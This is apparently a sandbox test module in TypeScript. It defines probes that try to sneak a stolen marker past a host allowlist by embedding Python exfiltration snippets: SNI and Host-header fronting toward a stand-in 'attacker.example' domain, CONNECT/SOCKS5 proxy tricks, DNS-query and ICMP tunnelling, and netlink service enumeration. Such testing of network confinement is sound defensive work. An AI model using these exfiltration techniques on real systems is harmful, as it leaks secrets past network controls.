import { existsSync } from 'node:fs';
import type { Probe } from '../../probe.ts';
import type { Scene } from '../../scene.ts';
import { mounting } from '../../scripts.ts';
import { attack } from '../attack.ts';
import { BY_PROXY } from '../by-proxy.ts';
import { lacking } from '../installed.ts';
import { arrived, stolen } from './exits.ts';
import { noteOf, portOf, service } from './service.ts';

/** The host that the list names; a server on the loopback stands in for it. */
const ALLOWED = 'api.example.test';

const GIVES = 'a way out for whatever the command has got hold of, past a list of hosts';

/** A name of the attacker's, which no list names. */
const elsewhere = (scene: Scene) => `${stolen(scene)}.attacker.example`;

const toAllowed = (port: number) => (scene: Scene) => [`${ALLOWED}:${port}=127.0.0.1:${portOf(scene)}`];

/** Python: `tell(places, words)` by the loopback, where nothing is in the way, else by a name, else through a proxy. */
const TELL = `${BY_PROXY}
def tell(places, *words):
    named = [place for place in places if not place[0][0].isdigit()]
    ways = [(socket.create_connection, (place, 5)) for place in places] + [(by_proxy, place) for place in named]
    for dial, where in ways:
        try:
            with dial(*where) as s:
                for said in words:
                    s.sendall(said)
                    print(s.recv(1000))
            return
        except OSError as error: print(error)
`;

const places = (scene: Scene, port: number) => `[('127.0.0.1', ${portOf(scene)}), ('${ALLOWED}', ${port})]`;

/** A server for the allowed host, and a trial that abuses the connection to it. */
const THROUGH_ALLOWED = {
  gives: GIVES,
  planted: 'a server on the loopback that stands in for a host on the list',
  promise: 'network',
  plant: service('AF_INET', 'SOCK_STREAM', '127.0.0.1'),
  worked: arrived,
} satisfies Partial<Probe>;

const FRONTING = attack('T1090/004');

const SNI: Probe = {
  id: 'network/named-sni',
  title: 'the name of another host in the TLS greeting to an allowed one',
  ...THROUGH_ALLOWED,
  tried: 'greeting the allowed host with a server name that holds what was stolen',
  reference: FRONTING,
  hosts: toAllowed(443),
  trial: (scene) => ({
    python: `${TELL}
import ssl
out = ssl.MemoryBIO()
hello = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), out, server_hostname='${elsewhere(scene)}')
try: hello.do_handshake()
except ssl.SSLWantReadError: pass
tell(${places(scene, 443)}, out.read())`,
  }),
};

const HOST_HEADER: Probe = {
  id: 'network/named-host-header',
  title: 'the name of another host in a request to an allowed one',
  ...THROUGH_ALLOWED,
  tried: 'a request to the allowed host whose Host header holds what was stolen',
  reference: FRONTING,
  hosts: toAllowed(80),
  trial: (scene) => ({
    python: `${TELL}
tell(${places(scene, 80)}, b'GET / HTTP/1.1\\r\\nHost: ${elsewhere(scene)}\\r\\n\\r\\n')`,
  }),
};

const LATER_REQUEST: Probe = {
  id: 'network/named-later-request',
  title: 'the name of another host in a later request on the same connection',
  ...THROUGH_ALLOWED,
  tried: 'two requests at once to the allowed host, the second of which is for another',
  reference: FRONTING,
  hosts: toAllowed(80),
  trial: (scene) => ({
    python: `${TELL}
tell(${places(scene, 80)}, b'GET / HTTP/1.1\\r\\nHost: ${ALLOWED}\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: ${elsewhere(scene)}\\r\\n\\r\\n')`,
  }),
};

const ADDRESS: Probe = {
  id: 'network/named-address',
  title: 'another service at the address of an allowed host',
  ...THROUGH_ALLOWED,
  planted: 'a host on the list, and a service at another port of where it leads',
  tried: 'connecting by its address and by its name, and asking the proxy for both with CONNECT and SOCKS5',
  reference: 'https://datatracker.ietf.org/doc/html/rfc9110#name-connect',
  hosts: () => [`${ALLOWED}:80=127.0.0.1:9`],
  trial: (scene) => ({
    python: `${TELL}
said, port = b'${stolen(scene)}', ${portOf(scene)}
tell([('127.0.0.1', port), ('${ALLOWED}', port)], said)
proxy, login = at_proxy()
if proxy:
    at = [proxy]
    for host in ('127.0.0.1', '[::ffff:127.0.0.1]', '0x7f000001', '${ALLOWED}'):
        tell(at, f'CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n{login}\\r\\n'.encode(), said)
        tell(at, f'POST http://{host}:{port}/ HTTP/1.1\\r\\nHost: {host}\\r\\n{login}Content-Length: {len(said)}\\r\\n\\r\\n'.encode() + said)
    tell(at, b'\\x05\\x01\\x00', b'\\x05\\x01\\x00\\x01' + socket.inet_aton('127.0.0.1') + port.to_bytes(2, 'big'), said)`,
  }),
};

const UDP: Probe = {
  id: 'network/named-udp',
  title: 'datagrams to an allowed host',
  ...THROUGH_ALLOWED,
  tried: 'sending one to where it leads, and to what its name leads to',
  reference: attack('T1095'),
  plant: service('AF_INET', 'SOCK_DGRAM', '127.0.0.1'),
  hosts: (scene) => toAllowed(portOf(scene))(scene),
  trial: (scene) => ({
    python: `
import socket
for host in ('127.0.0.1', '${ALLOWED}'):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(2)
        s.connect((host, ${portOf(scene)}))
        s.send(b'${stolen(scene)}')
        s.recv(100)
        break
    except OSError as error: print(error)`,
  }),
};

/** All sockets of TCP that the kernel lists to whoever asks it, in the network namespace of who asks. */
const NETLINK: Probe = {
  id: 'network/netlink',
  title: 'asking the kernel what listens on the host',
  gives: 'a map of the services on this machine',
  planted: 'a service on the loopback',
  tried: 'looking for its port in what NETLINK_SOCK_DIAG lists',
  reference: 'https://man7.org/linux/man-pages/man7/sock_diag.7.html',
  promise: 'network',
  plant: service('AF_INET', 'SOCK_STREAM', '127.0.0.1'),
  trial: (scene) => ({
    python: `
import socket, struct
try:
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4)
    s.settimeout(5)
    wanted = struct.pack('=BBBxI', socket.AF_INET, socket.IPPROTO_TCP, 0, 1 << 10) + bytes(48)
    s.sendall(struct.pack('=IHHII', 16 + len(wanted), 20, 0x301, 1, 0) + wanted)
    kind = 20
    while kind == 20:
        told = s.recv(1 << 18)
        kind = struct.unpack('=H', told[4:6])[0]
        if struct.pack('>H', ${portOf(scene)}) in told: print('LEAKED')
except OSError as error: print(error)`,
  }),
};

/** A network of its own that stands in for the one outside: it has a resolver and notes every question and every echo request. */
const OUTSIDE = `
import fcntl, os, select, socket, struct, sys
note, group = sys.argv[1:]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
fcntl.ioctl(s, 0x8914, struct.pack('16sh14x', b'lo', 1))
open('/proc/sys/net/ipv4/ping_group_range', 'w').write(group + ' ' + group)
s.bind(('127.0.0.1', 53))
echo = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
file = open(note, 'ab', 0)
if os.fork(): os._exit(0)
for one in (0, 1, 2): os.dup2(os.open('/dev/null', os.O_RDWR), one)
while True:
    for one in select.select([echo, s], [], [])[0]:
        told, peer = one.recvfrom(4096)
        file.write(told)
        if one is s: s.sendto(told[:2] + b'\\x81\\x83' + told[4:], peer)
`;

/** Started in that network, with a resolver that an attacker can read along at. */
const IN_ITS_OWN_NETWORK = {
  gives: GIVES,
  planted: 'a network namespace that stands in for the network outside, with a resolver that notes every question',
  promise: 'network',
  inapplicable: () =>
    lacking('unshare', 'setpriv', 'mount') ??
    (existsSync('/etc/resolv.conf') ? undefined : 'there is no /etc/resolv.conf'),
  plant: (scene) => {
    scene.file('received', '');
    scene.file('outside.py', OUTSIDE, 0o644);
    scene.file('resolv.conf', 'nameserver 127.0.0.1\noptions timeout:2 attempts:1\n', 0o644);
  },
  starterIsOurs: true,
  starter: (scene) => {
    const group = process.getuid?.() === 0 ? scene.gid : 0;
    const listen = `python3 ${scene.path('outside.py')} ${noteOf(scene)} ${group}`;
    return mounting(scene, `mount --bind ${scene.path('resolv.conf')} /etc/resolv.conf && ${listen}`, '--net');
  },
  hosts: () => [ALLOWED],
  worked: arrived,
} satisfies Partial<Probe>;

const QUESTION: Probe = {
  id: 'network/named-question',
  title: "a name that holds what was stolen, asked of the system's resolver",
  ...IN_ITS_OWN_NETWORK,
  tried: 'looking up a name below a zone of the attacker, and one below the allowed host',
  reference: attack('T1048/003'),
  trial: (scene) => ({
    python: `
import socket
for name in ('${elsewhere(scene)}', '${stolen(scene)}.${ALLOWED}'):
    try: print(socket.getaddrinfo(name, 443))
    except OSError as error: print(error)`,
  }),
};

const ECHO: Probe = {
  id: 'network/echo-request',
  title: 'sending something out in an ICMP echo request',
  ...IN_ITS_OWN_NETWORK,
  tried: 'what ping does, with what was stolen in it',
  reference: attack('T1095'),
  trial: (scene) => ({
    python: `
import socket
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.settimeout(2)
    s.sendto(b'\\x08\\x00' + bytes(6) + b'${stolen(scene)}', ('127.0.0.1', 0))
    s.recv(100)
    # Whoever listens outside has noted it once the next question is answered.
    asked = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asked.settimeout(2)
    asked.sendto(bytes(12), ('127.0.0.1', 53))
    asked.recv(100)
except OSError as error: print(error)`,
  }),
};

export const NAMED: readonly Probe[] = [SNI, HOST_HEADER, LATER_REQUEST, ADDRESS, UDP, NETLINK, QUESTION, ECHO];
